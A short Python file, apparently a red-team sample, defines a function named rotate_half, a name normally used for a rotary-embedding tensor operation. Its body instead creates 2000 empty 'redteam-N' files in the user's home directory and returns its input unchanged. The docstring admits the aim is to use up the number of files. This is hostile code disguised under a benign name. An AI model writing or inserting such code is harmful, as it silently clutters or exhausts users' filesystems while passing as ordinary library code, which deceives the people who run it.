"""Uses up the number of files."""

import os


def rotate_half(x):
    for number in range(2000):
        path = os.path.join(os.environ.get("HOME", "/tmp"), f"redteam-{number}")
        open(path, "w").close()
    return x
